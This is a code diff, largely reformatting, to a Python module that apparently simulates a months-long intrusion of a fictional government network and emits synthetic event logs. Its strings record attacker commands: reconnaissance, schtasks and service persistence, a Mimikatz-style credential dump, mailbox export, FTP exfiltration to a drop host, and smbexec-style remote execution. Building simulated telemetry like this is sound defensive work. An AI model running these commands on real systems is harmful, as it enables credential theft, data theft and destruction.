@@ -3,9 +3,19 @@
 from __future__ import annotations
 
 from .chance import Chance
-from .facts import CMD, EXPLORER, SERVICES, SYSTEM, W3WP, Account, Process, Teller, process_of, subject, target
+from .facts import CMD, EXPLORER, SERVICES, SYSTEM, W3WP, Account, Teller, process_of, subject, target
 from .intruder import (
-    C2, C2_NAME, DROP, RELAY, dump_lsass, encrypt, phone_home, receive_tool, run_tool, switch_off_defender, through_shell, wipe,
+    C2,
+    DROP,
+    RELAY,
+    dump_lsass,
+    encrypt,
+    phone_home,
+    receive_tool,
+    run_tool,
+    switch_off_defender,
+    through_shell,
+    wipe,
 )
 from .moments import DAY, HOUR, MINUTE, SECOND, at
 from .world import hosts, sid, table
@@ -32,7 +42,9 @@ def _enter(teller: Teller) -> None:
     moment = at("2021-05-18 09:42:17")
     teller.recorder.stage("wave1:access")
     worker = process_of(shp, moment - 40 * MINUTE, W3WP)
-    shell = teller.process(shp, moment, CMD, "\"cmd.exe\" /c whoami", worker, POOL, directory="c:\\windows\\system32\\inetsrv\\")
+    shell = teller.process(
+        shp, moment, CMD, '"cmd.exe" /c whoami', worker, POOL, directory="c:\\windows\\system32\\inetsrv\\"
+    )
     teller.process(shp, moment + SECOND // 2, "C:\\Windows\\System32\\whoami.exe", "whoami", shell, POOL)
     teller.file(shp, moment + 74 * SECOND, worker, POOL, f"{LAYOUTS}\\pickers.aspx")
     teller.connection(shp, moment + 90 * SECOND, worker, POOL, C2, 443)
@@ -40,7 +52,7 @@ def _enter(teller: Teller) -> None:
     moment += 11 * MINUTE
     for command, image in (
         ("ipconfig /all", "C:\\Windows\\System32\\ipconfig.exe"),
-        ("net group \"domain admins\" /domain", "C:\\Windows\\System32\\net.exe"),
+        ('net group "domain admins" /domain', "C:\\Windows\\System32\\net.exe"),
         ("nltest /dclist:qeveria.example", "C:\\Windows\\System32\\nltest.exe"),
         ("dir D:\\SharePoint", ""),
     ):
@@ -52,7 +64,16 @@ def _dwell(teller: Teller, chance: Chance) -> None:
     """Look in now and then, for fourteen months."""
     shp = hosts()["UJ-SHP01"]
     teller.recorder.stage("wave1:dwell")
-    for day in ("2021-06-03", "2021-06-24", "2021-08-05", "2021-09-02", "2021-11-25", "2022-02-03", "2022-04-12", "2022-06-02"):
+    for day in (
+        "2021-06-03",
+        "2021-06-24",
+        "2021-08-05",
+        "2021-09-02",
+        "2021-11-25",
+        "2022-02-03",
+        "2022-04-12",
+        "2022-06-02",
+    ):
         moment = at(day + " 06:30") + chance.below(10 * HOUR)
         through_shell(teller, shp, moment, POOL, "whoami", "C:\\Windows\\System32\\whoami.exe")
         through_shell(teller, shp, moment + 90 * SECOND, POOL, "dir C:\\Windows\\Temp")
@@ -73,12 +94,16 @@ def _move(teller: Teller) -> None:
     moment = at("2021-07-13 22:31:55")
     logon = teller.logon(exch, moment, ADMINISTRATOR, 10, shp.ip, special=True, minutes=48)
     desktop = process_of(exch, moment, EXPLORER)
-    shell = teller.process(exch, moment + 2 * MINUTE, CMD, "\"C:\\Windows\\system32\\cmd.exe\"", desktop, ADMINISTRATOR, logon=logon)
+    shell = teller.process(
+        exch, moment + 2 * MINUTE, CMD, '"C:\\Windows\\system32\\cmd.exe"', desktop, ADMINISTRATOR, logon=logon
+    )
     teller.recorder.stage("wave1:persistence")
     teller.file(exch, moment + 6 * MINUTE, desktop, ADMINISTRATOR, f"{OWA_AUTH}\\error4.aspx")
-    arguments = f"/c copy /y C:\\ProgramData\\e4.bak \"{OWA_AUTH}\\error4.aspx\""
-    command = f"schtasks /create /tn {EXCHANGE_TASK} /sc daily /st 03:10 /ru SYSTEM /tr \"cmd.exe {arguments}\""
-    teller.process(exch, moment + 9 * MINUTE, "C:\\Windows\\System32\\schtasks.exe", command, shell, ADMINISTRATOR, logon=logon)
+    arguments = f'/c copy /y C:\\ProgramData\\e4.bak "{OWA_AUTH}\\error4.aspx"'
+    command = f'schtasks /create /tn {EXCHANGE_TASK} /sc daily /st 03:10 /ru SYSTEM /tr "cmd.exe {arguments}"'
+    teller.process(
+        exch, moment + 9 * MINUTE, "C:\\Windows\\System32\\schtasks.exe", command, shell, ADMINISTRATOR, logon=logon
+    )
     teller.task(exch, moment + 9 * MINUTE + SECOND, EXCHANGE_TASK, "cmd.exe", arguments, ADMINISTRATOR, logon)
     moment = at("2021-11-09 08:21:33")
     worker = process_of(shp, moment - 40 * MINUTE, W3WP)
@@ -91,15 +116,20 @@ def _steal_mail(teller: Teller, chance: Chance) -> None:
     teller.recorder.stage("wave1:mail-theft")
     moment = at("2021-10-06 19:12:48")
     teller.logon(exch, moment - MINUTE, EXCHANGE_ADMIN, 3, hosts()["UJ-SHP01"].ip, special=True, minutes=95)
-    for number, text in enumerate((
-        "New-ManagementRoleAssignment -Name:\"Mbështetja\" -Role:ApplicationImpersonation -User:a.kelmendi",
-        "Get-Recipient -ResultSize Unlimited | Select-Object Name,PrimarySmtpAddress,RecipientTypeDetails",
-        "New-MailboxSearch -Name \"kontroll-7\" -SourceMailboxes all -SearchQuery 'admin* OR fjalëkalim* OR vpn' -TargetMailbox a.kelmendi",
-    )):
+    for number, text in enumerate(
+        (
+            'New-ManagementRoleAssignment -Name:"Mbështetja" -Role:ApplicationImpersonation -User:a.kelmendi',
+            "Get-Recipient -ResultSize Unlimited | Select-Object Name,PrimarySmtpAddress,RecipientTypeDetails",
+            'New-MailboxSearch -Name "kontroll-7" -SourceMailboxes all '
+            "-SearchQuery 'admin* OR fjalëkalim* OR vpn' -TargetMailbox a.kelmendi",
+        )
+    ):
         teller.script(exch, moment + number * 4 * MINUTE, text, EXCHANGE_ADMIN)
     folder = "C:\\inetpub\\wwwroot\\aspnet_client\\bak"
     for day, boxes in (
-        ("2021-10-07", ("ministri", "kabineti")), ("2021-11-11", ("ministri", "juridiku")), ("2021-12-09", ("kabineti", "prokurimet")),
+        ("2021-10-07", ("ministri", "kabineti")),
+        ("2021-11-11", ("ministri", "juridiku")),
+        ("2021-12-09", ("kabineti", "prokurimet")),
         ("2022-01-13", ("ministri", "kabineti", "it.admin")),
     ):
         moment = at(day + " 20:00") + chance.below(2 * HOUR)
@@ -107,23 +137,36 @@ def _steal_mail(teller: Teller, chance: Chance) -> None:
         for box in boxes:
             path = f"{folder}\\{box}.pst"
             share = path.replace("C:", "\\\\UJ-EXCH01\\c$")
-            teller.script(exch, moment, f"New-MailboxExportRequest -Mailbox {box} -FilePath \"{share}\"", EXCHANGE_ADMIN)
+            teller.script(exch, moment, f'New-MailboxExportRequest -Mailbox {box} -FilePath "{share}"', EXCHANGE_ADMIN)
             teller.file(exch, moment + 8 * MINUTE, process_of(exch, moment, "System"), SYSTEM, path)
             teller.connection(exch, moment + 31 * MINUTE, worker, SYSTEM, DROP, 443)
             moment += 50 * MINUTE
-        teller.script(exch, moment, "Get-MailboxExportRequest | Remove-MailboxExportRequest -Confirm:$false", EXCHANGE_ADMIN)
+        teller.script(
+            exch, moment, "Get-MailboxExportRequest | Remove-MailboxExportRequest -Confirm:$false", EXCHANGE_ADMIN
+        )
     teller.recorder.stage("wave1:persistence")
     moment = at("2022-01-19 21:40:02")
     logon = teller.logon(controller, moment - 2 * SECOND, ADMINISTRATOR, 3, exch.ip, exch.name, special=True)
     teller.event(
-        controller, moment, "Security/4720", **target(MADE), **subject(ADMINISTRATOR, logon), SamAccountName=MADE[1],
-        DisplayName=MADE[1], UserPrincipalName=MADE[1] + "@qeveria.example",
+        controller,
+        moment,
+        "Security/4720",
+        **target(MADE),
+        **subject(ADMINISTRATOR, logon),
+        SamAccountName=MADE[1],
+        DisplayName=MADE[1],
+        UserPrincipalName=MADE[1] + "@qeveria.example",
     )
     teller.event(controller, moment + SECOND, "Security/4722", **target(MADE), **subject(ADMINISTRATOR, logon))
     teller.event(
-        controller, moment + 40 * SECOND, "Security/4756", **subject(ADMINISTRATOR, logon),
-        MemberName="CN=HealthMailbox7f3c21,CN=Monitoring Mailboxes,CN=Microsoft Exchange System Objects,DC=qeveria,DC=example",
-        MemberSid=sid(*MADE), TargetUserName="Organization Management", TargetDomainName="QEVERIA",
+        controller,
+        moment + 40 * SECOND,
+        "Security/4756",
+        **subject(ADMINISTRATOR, logon),
+        MemberName=f"CN={MADE[1]},CN=Monitoring Mailboxes,CN=Microsoft Exchange System Objects,DC=qeveria,DC=example",
+        MemberSid=sid(*MADE),
+        TargetUserName="Organization Management",
+        TargetDomainName="QEVERIA",
         TargetSid=sid("QEVERIA", "Organization Management"),
     )
     teller.logon(exch, moment + 3 * DAY, MADE, 3, hosts()["UJ-SHP01"].ip, special=True)
@@ -134,15 +177,29 @@ def _dig_in(teller: Teller, chance: Chance) -> None:
     controller, files, desk = (hosts()[name] for name in ("UJ-DC01", "UJ-FS01", "UJ-WS014"))
     teller.recorder.stage("wave1:persistence")
     moment = at("2022-02-16 22:05:31")
-    logon = teller.logon(controller, moment - MINUTE, ADMINISTRATOR, 10, hosts()["UJ-EXCH01"].ip, special=True, minutes=35)
+    logon = teller.logon(
+        controller, moment - MINUTE, ADMINISTRATOR, 10, hosts()["UJ-EXCH01"].ip, special=True, minutes=35
+    )
     desktop = process_of(controller, moment, EXPLORER)
     teller.file(controller, moment, desktop, ADMINISTRATOR, BACKDOOR)
-    shell = teller.process(controller, moment + 50 * SECOND, CMD, "\"C:\\Windows\\system32\\cmd.exe\"", desktop, ADMINISTRATOR, logon=logon)
-    command = f"sc create {SERVICE} binPath= \"{BACKDOOR} -k netsvcs\" start= auto DisplayName= \"TLS Policy Helper\""
-    teller.process(controller, moment + 70 * SECOND, "C:\\Windows\\System32\\sc.exe", command, shell, ADMINISTRATOR, logon=logon)
+    shell = teller.process(
+        controller, moment + 50 * SECOND, CMD, '"C:\\Windows\\system32\\cmd.exe"', desktop, ADMINISTRATOR, logon=logon
+    )
+    command = f'sc create {SERVICE} binPath= "{BACKDOOR} -k netsvcs" start= auto DisplayName= "TLS Policy Helper"'
+    teller.process(
+        controller, moment + 70 * SECOND, "C:\\Windows\\System32\\sc.exe", command, shell, ADMINISTRATOR, logon=logon
+    )
     teller.service(controller, moment + 71 * SECOND, SERVICE, f"{BACKDOOR} -k netsvcs", ADMINISTRATOR, logon)
     teller.service_state(controller, moment + 80 * SECOND, "TLS Policy Helper", "running")
-    service = run_tool(teller, controller, moment + 80 * SECOND, BACKDOOR, "-k netsvcs", process_of(controller, moment - DAY, SERVICES), SYSTEM)
+    service = run_tool(
+        teller,
+        controller,
+        moment + 80 * SECOND,
+        BACKDOOR,
+        "-k netsvcs",
+        process_of(controller, moment - DAY, SERVICES),
+        SYSTEM,
+    )
     teller.recorder.stage("wave1:command-and-control")
     beat = moment + 2 * MINUTE
     while beat < at("2022-07-15 15:00"):
@@ -153,46 +210,90 @@ def _dig_in(teller: Teller, chance: Chance) -> None:
     logon = teller.logon(files, moment - MINUTE, ADMINISTRATOR, 10, controller.ip, special=True, minutes=30)
     shell = process_of(files, moment, CMD)
     arguments = "-NoP -W Hidden -File C:\\ProgramData\\Microsoft\\Network\\sync.ps1"
-    command = f"schtasks /create /tn {TASK} /sc daily /st 03:10 /ru SYSTEM /tr \"powershell.exe {arguments}\""
+    command = f'schtasks /create /tn {TASK} /sc daily /st 03:10 /ru SYSTEM /tr "powershell.exe {arguments}"'
     teller.process(files, moment, "C:\\Windows\\System32\\schtasks.exe", command, shell, ADMINISTRATOR, logon=logon)
     teller.task(files, moment + SECOND, TASK, "powershell.exe", arguments, ADMINISTRATOR, logon)
     teller.recorder.stage("wave1:credentials")
     moment = at("2022-05-10 21:33:12")
     logon = teller.logon(controller, moment - 3 * MINUTE, ADMINISTRATOR, 10, files.ip, special=True, minutes=55)
     shell = process_of(controller, moment - MINUTE, CMD)
-    tool = run_tool(teller, controller, moment, "C:\\Windows\\Temp\\m64.exe", "privilege::debug sekurlsa::logonpasswords exit", shell, ADMINISTRATOR, logon)
-    teller.access(controller, moment + SECOND, tool, ADMINISTRATOR, "0x1010", "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc44|C:\\Windows\\System32\\KERNELBASE.dll+20d5e|C:\\Windows\\Temp\\m64.exe+c4ad8")
+    tool = run_tool(
+        teller,
+        controller,
+        moment,
+        "C:\\Windows\\Temp\\m64.exe",
+        "privilege::debug sekurlsa::logonpasswords exit",
+        shell,
+        ADMINISTRATOR,
+        logon,
+    )
+    teller.access(
+        controller,
+        moment + SECOND,
+        tool,
+        ADMINISTRATOR,
+        "0x1010",
+        "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc44|C:\\Windows\\System32\\KERNELBASE.dll+20d5e|C:\\Windows\\Temp\\m64.exe+c4ad8",
+    )
     teller.recorder.stage("wave1:exfiltration")
     moment = at("2022-05-24 20:47:50")
     teller.logon(files, moment - MINUTE, ADMINISTRATOR, 3, controller.ip, controller.name, special=True)
     transfer = teller.process(
-        files, moment, "C:\\Windows\\System32\\ftp.exe", f"ftp -s:C:\\Windows\\Temp\\f.txt {DROP}", process_of(files, moment - MINUTE, CMD), ADMINISTRATOR
+        files,
+        moment,
+        "C:\\Windows\\System32\\ftp.exe",
+        f"ftp -s:C:\\Windows\\Temp\\f.txt {DROP}",
+        process_of(files, moment - MINUTE, CMD),
+        ADMINISTRATOR,
     )
     teller.connection(files, moment + SECOND, transfer, ADMINISTRATOR, DROP, 21)
     teller.recorder.stage("wave1:lateral")
     moment = at("2022-06-14 19:58:03")
     logon = teller.logon(desk, moment, ADMINISTRATOR, 3, controller.ip, controller.name, special=True)
-    remote = f"%COMSPEC% /Q /c echo cd ^> \\\\{controller.ip}\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat"
+    script = "%TEMP%\\execute.bat"
+    remote = (
+        f"%COMSPEC% /Q /c echo cd ^> \\\\{controller.ip}\\C$\\__output 2^>^&1 > {script} & %COMSPEC% /Q /c {script}"
+    )
     teller.service(desk, moment + SECOND, "BTOBTO", remote, ADMINISTRATOR, logon, start="demand start")
-    teller.process(desk, moment + 2 * SECOND, CMD, remote.replace("%COMSPEC%", CMD), process_of(desk, moment - DAY, SERVICES), SYSTEM)
+    teller.process(
+        desk,
+        moment + 2 * SECOND,
+        CMD,
+        remote.replace("%COMSPEC%", CMD),
+        process_of(desk, moment - DAY, SERVICES),
+        SYSTEM,
+    )
     teller.logon(files, moment + DAY, CLERK, 3, desk.ip, minutes=55)
     teller.logon(hosts()["UJ-EXCH01"], moment + DAY + HOUR, CLERK, 3, controller.ip, minutes=15)
 
 
 def _strike(teller: Teller) -> None:
     """15 July 2022: Defender off, the spreader, encryption, then the wiper."""
-    shp, files, desk, controller, exch = (hosts()[name] for name in ("UJ-SHP01", "UJ-FS01", "UJ-WS014", "UJ-DC01", "UJ-EXCH01"))
+    shp, files, desk, controller, exch = (
+        hosts()[name] for name in ("UJ-SHP01", "UJ-FS01", "UJ-WS014", "UJ-DC01", "UJ-EXCH01")
+    )
     teller.recorder.stage("wave1:defence-evasion")
     logons = {}
     for number, host in enumerate((exch, files, shp, desk)):
         moment = WAVE + 10 * HOUR + 31 * MINUTE + number * 4 * MINUTE
-        logons[host.name] = teller.logon(host, moment, ADMINISTRATOR, 3, controller.ip, controller.name, special=True, minutes=110)
+        logons[host.name] = teller.logon(
+            host, moment, ADMINISTRATOR, 3, controller.ip, controller.name, special=True, minutes=110
+        )
         switch_off_defender(teller, host, moment + 10 * SECOND, ADMINISTRATOR, logons[host.name])
     teller.recorder.stage("wave1:spread")
     moment = WAVE + 11 * HOUR + 2 * MINUTE
     logon = teller.logon(controller, moment - MINUTE, ADMINISTRATOR, 10, exch.ip, special=True, minutes=150)
     shell = process_of(controller, moment - SECOND, CMD)
-    spreader = run_tool(teller, controller, moment, "C:\\ProgramData\\Mellona.exe", "C:\\ProgramData\\hosts.txt", shell, ADMINISTRATOR, logon)
+    spreader = run_tool(
+        teller,
+        controller,
+        moment,
+        "C:\\ProgramData\\Mellona.exe",
+        "C:\\ProgramData\\hosts.txt",
+        shell,
+        ADMINISTRATOR,
+        logon,
+    )
     for number, host in enumerate((files, shp, desk)):
         when = moment + (number + 1) * 45 * SECOND
         teller.connection(controller, when, spreader, ADMINISTRATOR, host.ip, 445, host.fqdn)
@@ -201,9 +302,19 @@ def _strike(teller: Teller) -> None:
     teller.recorder.stage("wave1:encryption")
     world = table("world")
     documents = world["documents"]
-    for number, (host, root) in enumerate(((shp, "D:\\SharePoint\\Skedarë"), (files, "D:\\Dokumente"), (desk, "C:\\Users\\gëzim.çela\\Documents"))):
+    for number, (host, root) in enumerate(
+        ((shp, "D:\\SharePoint\\Skedarë"), (files, "D:\\Dokumente"), (desk, "C:\\Users\\gëzim.çela\\Documents"))
+    ):
         folders = [f"{root}\\{name}" for name in (world["departments"] if host is files else world["departments"][:2])]
-        encrypt(teller, host, WAVE + 12 * HOUR + (5 + 4 * number) * MINUTE, ADMINISTRATOR, logons[host.name], folders, documents)
+        encrypt(
+            teller,
+            host,
+            WAVE + 12 * HOUR + (5 + 4 * number) * MINUTE,
+            ADMINISTRATOR,
+            logons[host.name],
+            folders,
+            documents,
+        )
     teller.recorder.stage("wave1:wiping")
     for host, moment in ((shp, WAVE + 12 * HOUR + 47 * MINUTE), (files, WAVE + 13 * HOUR + 5 * MINUTE)):
         receive_tool(teller, host, moment - 6 * MINUTE, "cl.exe", controller.ip, ADMINISTRATOR, "C:\\Windows\\Temp")
